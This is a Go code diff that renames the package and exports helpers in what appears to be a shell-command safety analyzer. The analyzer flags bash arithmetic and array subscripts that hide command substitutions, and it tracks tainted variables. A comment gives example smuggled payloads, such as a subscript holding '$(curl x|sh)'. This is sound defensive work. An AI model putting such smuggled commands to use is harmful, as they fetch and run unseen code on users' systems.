@@ -1,4 +1,4 @@
-package policy
+package shell
 
 import (
 	"strings"
@@ -16,7 +16,7 @@ import (
 // command substitutions in them, a program the line does not show
 // (for x in 'a[$(curl x|sh)]'; do ls $((x)); done runs curl and sh;
 // unset 'a[$(git push)]' runs git push).
-func (a *analyzer) arithmetic(src string, f *syntax.File, cwd cwdSet) {
+func (a *analyzer) arithmetic(src string, f *syntax.File, cwd CwdSet) {
 	if !strings.Contains(src, "[") && !strings.Contains(src, "((") && !strings.Contains(src, "let") &&
 		!strings.Contains(src, "${") && !strings.Contains(src, "declare") && !strings.Contains(src, "typeset") &&
 		!strings.Contains(src, "local") {
@@ -113,8 +113,8 @@ func (a *analyzer) arithmetic(src string, f *syntax.File, cwd cwdSet) {
 		case *syntax.DeclClause:
 			integer := false
 			for _, as := range x.Args {
-				if as.Naked && as.Name == nil && as.Value != nil && strings.HasPrefix(decodeWord(src, as.Value).text, "-") &&
-					strings.Contains(decodeWord(src, as.Value).text, "i") {
+				if as.Naked && as.Name == nil && as.Value != nil && strings.HasPrefix(DecodeWord(src, as.Value).Text, "-") &&
+					strings.Contains(DecodeWord(src, as.Value).Text, "i") {
 					integer = true
 				}
 			}
@@ -122,14 +122,14 @@ func (a *analyzer) arithmetic(src string, f *syntax.File, cwd cwdSet) {
 				if integer && as.Value != nil && !as.Naked && !isIntegerWord(src, as.Value) {
 					mark(x, "declare -i evaluates its values as arithmetic")
 				}
-				if as.Value != nil && codeInSubscript(decodeWord(src, as.Value).text) {
+				if as.Value != nil && codeInSubscript(DecodeWord(src, as.Value).Text) {
 					mark(x, "a subscript holding a command substitution is evaluated")
 				}
 			}
 		case *syntax.CallExpr:
-			if len(x.Args) > 0 && evaluatesSubscripts[base(decodeWord(src, x.Args[0]).text)] {
+			if len(x.Args) > 0 && evaluatesSubscripts[Base(DecodeWord(src, x.Args[0]).Text)] {
 				for _, w := range x.Args[1:] {
-					if codeInSubscript(decodeWord(src, w).text) {
+					if codeInSubscript(DecodeWord(src, w).Text) {
 						mark(x, "a subscript holding a command substitution is evaluated")
 					}
 				}
@@ -138,7 +138,7 @@ func (a *analyzer) arithmetic(src string, f *syntax.File, cwd cwdSet) {
 		return risk == ""
 	})
 	if risk != "" {
-		a.segs = append(a.segs, &segment{text: riskAt, cwds: cwd, opaque: risk})
+		a.segs = append(a.segs, &Segment{Text: riskAt, Cwds: cwd, Opaque: risk})
 	}
 }
 
@@ -164,16 +164,16 @@ func (a *analyzer) taint(src string, f *syntax.File) {
 			case x.Name != nil && x.Naked:
 				a.tainted[x.Name.Value] = true // declare -n x, read into x
 			case x.Name == nil && x.Value != nil:
-				a.tainted[strings.SplitN(decodeWord(src, x.Value).text, "=", 2)[0]] = true
+				a.tainted[strings.SplitN(DecodeWord(src, x.Value).Text, "=", 2)[0]] = true
 			}
 		case *syntax.ParamExp:
 			if x.Exp != nil && (x.Exp.Op == syntax.AssignUnset || x.Exp.Op == syntax.AssignUnsetOrNull) && x.Param != nil {
 				a.tainted[x.Param.Value] = true
 			}
 		case *syntax.CallExpr:
-			if len(x.Args) > 0 && setsVariables[base(decodeWord(src, x.Args[0]).text)] {
+			if len(x.Args) > 0 && setsVariables[Base(DecodeWord(src, x.Args[0]).Text)] {
 				for _, w := range x.Args[1:] {
-					name, _, _ := strings.Cut(decodeWord(src, w).text, "=")
+					name, _, _ := strings.Cut(DecodeWord(src, w).Text, "=")
 					a.tainted[name] = true
 				}
 				for _, name := range assignedNames(src, x.Args) {
@@ -188,18 +188,18 @@ func (a *analyzer) taint(src string, f *syntax.File) {
 // stringSpecials are bash's own variables that hold text the line
 // controls: the last argument ($_), a regex match, what read or mapfile
 // read, the command line itself.
-var stringSpecials = set("_", "BASH_REMATCH", "REPLY", "MAPFILE", "OPTARG", "BASH_COMMAND", "BASH_ARGV",
+var stringSpecials = Set("_", "BASH_REMATCH", "REPLY", "MAPFILE", "OPTARG", "BASH_COMMAND", "BASH_ARGV",
 	"BASH_ARGV0", "BASH_EXECUTION_STRING", "BASH_SOURCE", "FUNCNAME", "COMPREPLY", "COMP_LINE",
 	"COMP_WORDS", "DIRSTACK", "PWD", "OLDPWD", "READLINE_LINE", "HISTCMD", "PIPESTATUS", "GROUPS", "BASH_LINENO")
 
 // setsVariables are the commands that set the variables their arguments
 // name (env and declare's forms when run as ordinary commands).
-var setsVariables = set("read", "mapfile", "readarray", "getopts", "printf", "env",
+var setsVariables = Set("read", "mapfile", "readarray", "getopts", "printf", "env",
 	"declare", "typeset", "local", "export", "readonly")
 
 // evaluatesSubscripts are the builtins that evaluate an array subscript
 // written in their arguments.
-var evaluatesSubscripts = set("unset", "printf", "read", "mapfile", "readarray", "test", "[",
+var evaluatesSubscripts = Set("unset", "printf", "read", "mapfile", "readarray", "test", "[",
 	"getopts", "wait", "declare", "typeset", "local", "export", "readonly", "let")
 
 // quotedCode reports whether a literal holds a command substitution that
@@ -215,9 +215,9 @@ func codeInSubscript(s string) bool {
 }
 
 func isIntegerWord(src string, w *syntax.Word) bool {
-	d := decodeWord(src, w)
-	t := strings.TrimLeft(d.text, "+-")
-	return d.static && isDigits(t)
+	d := DecodeWord(src, w)
+	t := strings.TrimLeft(d.Text, "+-")
+	return d.Static && isDigits(t)
 }
 
 // identifiers returns the shell names in an arithmetic literal.
@@ -261,8 +261,8 @@ func reflectNil(n syntax.Node) bool {
 	return false
 }
 
-// base returns the last element of a verb written as a path.
-func base(verb string) string {
+// Base returns the last element of a verb written as a path.
+func Base(verb string) string {
 	if i := strings.LastIndexByte(verb, '/'); i >= 0 && i < len(verb)-1 {
 		return verb[i+1:]
 	}
